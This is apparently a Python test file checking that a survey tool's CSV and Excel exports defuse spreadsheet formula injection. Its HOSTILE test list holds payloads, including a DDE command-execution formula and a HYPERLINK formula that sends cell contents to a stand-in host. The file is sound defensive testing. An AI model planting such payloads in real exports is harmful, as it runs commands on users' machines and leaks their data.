"""The export's cells: text stays text in a spreadsheet, whatever was written; nothing is lost that may be kept."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from itguide.answers import Answer, Round, Sheet
from itguide.export import CUT, LONGEST, Table, as_csv, as_xlsx, counted, guarded, harmless, told
from itguide.spec import Question

HOSTILE = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1", " =1+1", "\ufeff=1+1", "\u200b=1+1", "＝1+1",
    "\x00=1+1",
    '=HYPERLINK("http://x.test?"&A1,"see")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\x0b=1", "'=1+1",
]  # fmt: skip
PLAIN = ["Ordinary words.", 'He said "no", twice', "a;b,c\nsecond line", "año, ação, 关税", "100 % of = 5", "", "’tis"]


def table(*texts: str) -> Table:
    return Table(
        "questions", ("participant", "answer", "points"), tuple((f"P-{n}", t, -1.5) for n, t in enumerate(texts))
    )


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(data: bytes):
    from openpyxl import load_workbook

    return load_workbook(io.BytesIO(data))["questions"]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_no_formula_in_csv(text: str) -> None:
    cell = read_csv(as_csv(table(text)))[1][1]
    assert cell[0] not in "=+-@\t\r\n＝＋－＠"
    assert cell.lstrip(" \t\r\n\ufeff\u200b'") == harmless(text).lstrip(" \t\r\n\ufeff\u200b'")


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_no_formula_in_excel(text: str) -> None:
    data = as_xlsx([table(text)])
    cell = read_xlsx(data)["B2"]
    assert cell.data_type in {"s", "inlineStr"}
    assert cell.value == harmless(text)
    with zipfile.ZipFile(io.BytesIO(data)) as pack:
        assert not any(b"<f>" in pack.read(n) or b"<f " in pack.read(n) for n in pack.namelist())


def test_a_formula_s_first_sign_stays_text_when_the_cell_is_edited() -> None:
    sheet = read_xlsx(as_xlsx([table("=1+1", "words")]))
    assert sheet["B2"].quotePrefix
    assert not sheet["B3"].quotePrefix


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(max_size=40), min_size=1, max_size=5))
def test_any_text_comes_back_as_text(texts: list[str]) -> None:
    rows = read_csv(as_csv(table(*texts)))[1:]
    assert [r[1] for r in rows] == [guarded(t) for t in texts]
    assert all(not r[1] or r[1][0] not in "=+-@\t\r\n" for r in rows)


def test_ordinary_text_is_untouched_and_numbers_are_numbers() -> None:
    assert [guarded(t) for t in PLAIN] == PLAIN
    data = as_csv(table(*PLAIN))
    assert data.startswith(b"\xef\xbb\xbf")
    assert b'"He said ""no"", twice"' in data  # RFC 4180: a quote within is doubled
    assert data.count(b"\r\n") == len(PLAIN) + 1
    assert b",-1.5\r\n" in data
    sheet = read_xlsx(as_xlsx([table(*PLAIN)]))
    assert [sheet.cell(n + 2, 2).value or "" for n in range(len(PLAIN))] == PLAIN
    assert sheet["C2"].value == -1.5


def test_control_characters_go_and_long_text_is_cut_and_says_so() -> None:
    assert harmless("a\x00b\x07c\x1bd\r\ne\rf\ud800g\uffff") == "abcd\ne\nfg"
    long = harmless("x" * 50_000)
    assert len(long) == LONGEST
    assert long.endswith(CUT)
    assert len(read_xlsx(as_xlsx([table("=" * 50_000)]))["B2"].value) == LONGEST


def test_a_table_without_rows_is_a_heading() -> None:
    assert read_csv(as_csv(table())) == [["participant", "answer", "points"]]
    assert read_xlsx(as_xlsx([table()])).max_row == 1


OPTIONS = [{"id": "one", "label": "One"}, {"id": "two", "label": "Two"}]


def question(**more) -> Question:
    return Question.model_validate(
        {"id": "q", "kind": "choice", "phase": "decide", "prompt": "Q?", "option": OPTIONS, **more}
    )


def test_the_answer_that_counts() -> None:
    rounds = (Round(1, "", {"p": 1}, {"q": "one"}, {}), Round(2, "", {"p": 2}, {"q": "two"}, {}))
    sheet = Sheet("case", "", "", "", {"q": Answer("one", 1, ""), "p": Answer(3, 1, "")}, rounds)
    guess = Question(id="p", kind="number", phase="predict", prompt="P?")
    assert counted(question(), sheet) == "two"
    assert counted(question(scored_round="first"), sheet) == "one"
    assert counted(guess, sheet) == 1
    assert counted(guess, Sheet("case", "", "", "", {"p": Answer(3, 1, "")})) == 3
    assert counted(question(), Sheet("case", "", "", "", {"q": Answer("one", 1, "")})) is None


def test_answers_are_told_in_words() -> None:
    assert told(question(), "two") == "Two"
    assert told(question(kind="choices"), ["one", "two"]) == "One; Two"
    assert told(question(kind="rank"), ["two", "one"]) == "1. Two; 2. One"
    sorted_ = question(kind="classify", category=[{"id": "in", "label": "In"}, {"id": "out", "label": "Out"}])
    assert told(sorted_, {"one": "in", "two": "in"}) == "In: One; Two"
    assert told(question(), None) == ""
